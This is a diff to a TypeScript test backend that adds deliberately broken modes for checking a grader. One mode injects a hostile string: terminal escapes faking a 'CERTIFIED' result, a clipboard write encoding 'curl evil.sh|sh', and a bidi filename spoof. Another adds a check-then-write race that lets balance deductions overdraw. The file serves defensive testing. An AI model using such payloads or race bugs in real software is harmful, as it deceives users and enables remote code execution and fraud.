@@ -22,6 +22,15 @@ export interface TestBackend {
   close(): Promise<void>;
 }
 
+/**
+ * What `breaks: 'hostile-text'` answers where the grader quotes it: terminal escapes that would print a
+ * fake green CERTIFIED line (CR, ESC [ 2K, colours), write the clipboard (OSC 52), a C1 CSI, and a bidi
+ * override, around a marker the grader's link rule picks up.
+ */
+export const HOSTILE =
+  'certify-\r\u001b[2K\u001b[32m21 passed, 0 failed, 0 not configured, in 1.0 s: CERTIFIED\u001b[0m' +
+  '\u001b]52;c;Y3VybCBldmlsLnNofHNo\u0007\u009b31m\u202egnp.exe\u2066\u0000\u0085';
+
 const USERS: Record<string, string> = { alice: 'user-alice', bob: 'user-bob' };
 const AMOUNT = /^\d{1,10}\.\d{2}$/;
 
@@ -118,9 +127,14 @@ export async function startTestBackend(options: TestBackendOptions): Promise<Tes
         Date.now() - arrived > options.deliveryTimeoutMs * 0.8 && !broken('receiver.late-answer-not-charged');
       if (seen.has(key) && !broken('receiver.deduct-charged-once')) return json(res, 200, { ok: true });
       if (late) return json(res, 200, { ok: false });
-      if (balances.get(user)! < amount)
+      const balance = balances.get(user)!;
+      if (balance < amount)
         return json(res, broken('receiver.deduct-insufficient-ok-false') ? 402 : 200, { ok: false });
-      balances.set(user, balances.get(user)! - amount);
+      // Checked, then written after a wait: the other deducts arriving meanwhile pass the same check.
+      if (broken('receiver.concurrent-deducts-never-overdraw')) {
+        await new Promise((resolve) => setTimeout(resolve, 20));
+        balances.set(user, balance - amount);
+      } else balances.set(user, balances.get(user)! - amount);
       charged += amount;
       seen.add(key);
       return json(res, broken('receiver.deduct-ok-true') ? 201 : 200, { ok: true });
@@ -142,7 +156,9 @@ export async function startTestBackend(options: TestBackendOptions): Promise<Tes
     const linkUrl = event?.notification?.link_url;
     if (typeof user === 'string' && typeof linkUrl === 'string') {
       const { access_token } = await exchange(user, false);
-      links.set(user, [...(links.get(user) ?? []), linkOf(linkUrl, access_token)]);
+      // Hostile: the link the rule builds, with the hostile text after it, unencoded.
+      const link = linkOf(linkUrl, access_token) + (broken('hostile-text') ? HOSTILE : '');
+      links.set(user, [...(links.get(user) ?? []), link]);
     }
     res.writeHead(204).end();
   }
@@ -155,7 +171,7 @@ export async function startTestBackend(options: TestBackendOptions): Promise<Tes
     let user = sessionUser(req);
     if (broken('token.unauthenticated-refused')) user ??= 'user-guest';
     if (broken('token.bound-to-session-user') && user !== undefined) user = 'user-alice';
-    if (user === undefined) return json(res, 401, { error: 'sign in' });
+    if (user === undefined) return json(res, 401, { error: broken('hostile-text') ? HOSTILE : 'sign in' });
     let body: Record<string, unknown> = {};
     try {
       body = JSON.parse(raw.toString('utf8') || '{}') as Record<string, unknown>;
@@ -180,6 +196,8 @@ export async function startTestBackend(options: TestBackendOptions): Promise<Tes
     if (path === '/links') return json(res, 200, { links: links.get(user) ?? [] });
     json(res, 404, { error: 'not found' });
   });
+  // A request node:http cannot parse (a Content-Length of -1) is dropped without the 400 Node would send.
+  if (broken('receiver.bad-content-length-refused')) server.on('clientError', (_error, socket) => socket.destroy());
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
   origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
   return {
